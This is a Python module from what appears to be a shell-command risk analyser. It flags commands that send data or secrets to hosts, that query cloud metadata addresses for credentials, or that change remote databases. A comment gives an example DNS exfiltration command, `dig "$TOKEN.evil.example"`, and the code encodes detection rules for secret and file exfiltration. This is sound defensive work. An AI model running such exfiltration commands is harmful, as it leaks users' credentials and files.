"""What a command sends, and to whom: the network half of a grammar's roles (`roles.Command`
inherits it). Hosts and URLs contacted (a cloud metadata address hands out credentials), data
and files uploaded, standard input sent, a remote or sync destination changed, credentials
given on the command line, a database on another machine migrated, and whether every host a
command names is this machine's own.
"""

from __future__ import annotations

import os

from .model import LOOPBACK
from .resolve import _Command

TYPE_CHECKING = False
if TYPE_CHECKING:
    from ..grammar.scan import Word


_NAME_AT_FILE = (
    "--data-urlencode",
    "--variable",
    "--url-query",
    "--expand-data-urlencode",
    "--expand-url-query",
)


class Sends(_Command):
    """The roles of a command's words that send or contact (one handler per role)."""

    __slots__ = ()

    def database_url(self, w: Word) -> None:
        """The database a migration or schema push changes (`migrate -database URL up`,
        DATABASE_URL): one on another machine is a production change. A loopback host, a
        one-label service name (`db`, a compose service), a file or socket, or a URL known
        only at run time is the developer's own database, as when the line names none."""
        inv = self.inv
        if inv is not None and (inv.spec or {}).get("effect") == "read":
            return
        host = _database_host(w.value).lower()
        if ("." not in host.strip("[]") and ":" not in host) or host.startswith(LOOPBACK):
            return
        name = os.path.basename(self.argv[0])
        anchor = tuple(self.argv[i] for i in inv.command_at) if inv else ()
        self.add("change", f"changes the database at {host}", "production", anchor or (name,))

    def contact(self, w: Word) -> None:
        from . import words

        for name in words.variables(w.value):  # `dig "$TOKEN.evil.example"`: the secret goes out
            if self.ctx.classes.secret_variable(name) and not self._own_service(name, w.value):
                self.add("send", f"sends ${name} to {w.value}", "secret-exfiltration", ())
                return
        value = words.unquote(w.value)
        if value.lower().startswith("file://"):  # a local read, however the URL is spelled
            self.read(_word("read", value[7:] or "/", w))
            return
        host = self.ctx.classes.metadata_host(w.value)
        if host:
            self.add("read", f"asks {host} for the machine's cloud credentials", "secret", ())

    def _own_service(self, name: str, value: str) -> bool:
        """A URL whose fixed host is the service that issued the secret (`https://oauth2:
        $GITLAB_TOKEN@gitlab.com/...`): the credential goes where it belongs ([shell]
        secret_services). A host the variable is part of is a name sent over DNS."""
        from . import words

        url = words.unquote(value)
        if "://" not in url:
            return False
        host = url_host(url).split(":", 1)[0]
        return "$" not in host and self.ctx.classes.secret_service(name, [host])

    def remote_word(self, w: Word) -> None:
        named = self.ctx.line.remotes.get(w.value)
        if named:  # a remote this line named earlier (`git remote add m URL && git push m`)
            self.add("send", f"sends data to {named} (as {w.value})", "exfiltration", (w.value,))
        elif _is_remote(w.value):
            self.add("send", f"sends data to {w.value}", "exfiltration", (w.value,))
        self.contact(w)

    def remote_name(self, w: Word) -> None:
        """`git remote add NAME URL`: later words of the line may send data to NAME."""
        urls = [x.value for x in (self.inv.words if self.inv else ()) if x.role == "url"]
        if urls:
            self.ctx.line.remotes[w.value] = urls[-1]

    def upload(self, w: Word) -> None:
        if w.value == "-":
            self.sends_stdin()
            return
        if _is_remote(w.value):
            return
        self.pending_upload(w.value)

    def sends_stdin(self) -> None:
        """This command sends its stdin to a host: what the pipeline fed it goes out."""
        if self.loopback_only():
            return
        for kind, what in self.ctx.line.piped:
            if what == "/dev/null":  # `</dev/null`: nothing to send
                continue
            cls = "secret-exfiltration" if kind == "secret" else "exfiltration"
            self.add("send", f"sends what {what} gave it to a host", cls, ())
            return

    def data(self, w: Word) -> None:
        """Data sent with a request: a secret variable expanded into it goes out; `@FILE`
        (`-F name=@FILE`, `--data-urlencode name@FILE`) sends the file."""
        from . import words

        value = words.unquote(w.value)
        if self.sends_secret_variable(value):
            return
        if w.option == "--variable" and value[:1] == "%":
            # curl 8.3 `--variable %NAME`: imports the environment variable NAME, which the
            # --expand-* options then send.
            name = value[1:].split("=", 1)[0].split("[", 1)[0]
            if self.sends_secret_variable("$" + name):
                return
        at = value.find("@") if w.option in ("-F", "--form") else (0 if value[:1] == "@" else -1)
        if w.option in ("-F", "--form") and "=<" in value:  # `name=<FILE`: its content (curl(1))
            at = value.find("=<") + 1 if at < 0 else min(at, value.find("=<") + 1)
        # `name@FILE`: the file's content, encoded (curl(1) --data-urlencode, --url-query;
        # a `--url-query +TEXT` is TEXT as is).
        named = w.option in _NAME_AT_FILE and not value.startswith("+")
        if named and "=" not in value.partition("@")[0]:
            at = value.find("@")
        if at >= 0 and value[at + 1 :].split(";", 1)[0] == "-":
            self.sends_stdin()
        elif at >= 0 and value[at + 1 :] not in ("", "-"):
            self.pending_upload(value[at + 1 :].split(";", 1)[0])

    def sends_secret_variable(self, value: str) -> bool:
        """A secret variable expanded into what goes to the hosts (a body, `-u user:$TOKEN`):
        the exfiltration of a secret, unless the host is this machine or the service that
        issued it ([shell] secret_services)."""
        from . import words

        if self.loopback_only():
            return False
        for name in words.variables(value):
            if self.ctx.classes.secret_variable(name) and not (
                self.ctx.classes.secret_service(name, self.hosts())
            ):
                self.add("send", f"sends ${name} to a host", "secret-exfiltration", ())
                return True
        return False

    def credential(self, w: Word) -> None:
        """A credential given on the command line (`curl -u USER:PASS`, `wget --password`):
        presented to the hosts the line names (none named: the program's own service)."""
        from . import words

        if self.hosts():
            self.sends_secret_variable(words.unquote(w.value))

    def pending_upload(self, word: str) -> None:
        if self.loopback_only():
            return
        secret = self.hit("secret", word)
        if not secret and self.recursive():
            path, cwd = self.locate(word)
            secret = self.ctx.classes.holds_secrets(path, cwd)
        cls = "secret-exfiltration" if secret else "exfiltration"
        self.add("send", f"sends {word} to a host", cls, (word,))

    def hosts(self) -> list[str]:
        """The hosts this command names (URLs, hosts, remotes; proxies included)."""
        from . import words
        from .values import routed

        inv = self.inv
        out = []
        for w in inv.words if inv else ():
            if w.role == "route":
                out += routed(w)
            elif w.role == "bind":
                out.append(_bound(words.unquote(w.value)))
            elif w.role in ("url", "host", "remote", "sync-dest", "credentials-to"):
                value = words.unquote(w.value)
                host = url_host(value)
                # `:3000/path`: HTTPie's and xh's shorthand for localhost (httpie.io docs).
                out.append("localhost" + host if host[:1] == ":" and w.role == "url" else host)
        return out

    def route(self, w: Word) -> None:
        """`--connect-to`, `--resolve`: the host connections really go to is contacted (a
        metadata address there hands out the machine's credentials)."""
        from .values import routed

        for host in routed(w):
            self.contact(_word("host", host, w))

    def loopback_only(self) -> bool:
        """Does every host this command names sit on this machine (`http://localhost:9200`)?"""
        hosts = self.hosts()
        return bool(hosts) and all(h.lower().startswith(LOOPBACK) for h in hosts)


def _bound(address: str) -> str:
    """The address a server binds to (`ADDR`, `ADDR:PORT`, `[V6]:PORT`), with every interface
    (0.0.0.0, ::, *, empty: ip(7), ipv6(7) INADDR_ANY/in6addr_any) as `*`: whoever can reach
    this machine connects, so it is no loopback address although a client's 0.0.0.0 is."""
    host = address
    if address.startswith("["):
        host = address[1:].split("]", 1)[0]
    elif address.count(":") == 1:
        host = address.split(":", 1)[0]
    if host.strip("0.:*") == "":
        return "*"
    return host


def url_host(value: str) -> str:
    """The host (with its port) a URL or HOST[:PORT] word names: the authority ends at the
    first `/`, `?` or `#` (RFC 3986 3.2; `\\` too, which WHATWG URLs read as `/`), and the
    userinfo before its last `@` is no host (`https://x.example?@api.github.com` goes to
    x.example)."""
    rest = value.split("://", 1)[-1]
    for end in "/?#\\":
        rest = rest.split(end, 1)[0]
    return rest.rsplit("@", 1)[-1]


def _database_host(value: str) -> str:
    """The host a database URL or connection string names: `postgres://u:p@HOST:5432/db`,
    `jdbc:postgresql://HOST/db`, `sqlserver://HOST;db=x`, libpq's `host=HOST ...`, Go's
    `u:p@tcp(HOST:3306)/db`; "" for a file (sqlite), a socket, or a value known at run time."""
    from .words import unquote

    v = unquote(value).strip()
    if "$" in v or "`" in v:
        return ""
    v = v.removeprefix("jdbc:").removeprefix("db:")  # JDBC, sqitch `db:pg://HOST/db`
    scheme, sep, _ = v.partition("://")
    if sep and not scheme.lower().startswith(("sqlite", "file", "unix")):
        host = url_host(v).split(";", 1)[0]
    elif "@tcp(" in v:
        host = v.split("@tcp(", 1)[1].split(")", 1)[0]
    elif "host=" in v:
        host = v.split("host=", 1)[1].split()[0].strip("'\"")
    else:
        return ""
    if host.startswith("/"):
        return ""  # a Unix socket directory
    return host[: host.index("]") + 1] if host.startswith("[") else host.rsplit(":", 1)[0]


def _is_remote(value: str) -> bool:
    if "://" in value and not value.startswith("file://"):
        return True
    if value[:1] == ":" and ":" in value[1:]:  # rclone `:backend,opt=val:path`, an ad hoc remote
        return value[1:].split(":", 1)[0].split(",", 1)[0].replace("-", "").isalnum()
    head, colon, _ = value.partition(":")
    return bool(colon) and bool(head) and "/" not in head and not head.startswith("-")


def _word(role: str, value: str, like: Word) -> Word:
    from ..grammar.scan import Word

    return Word(role, value, like.index, like.option)
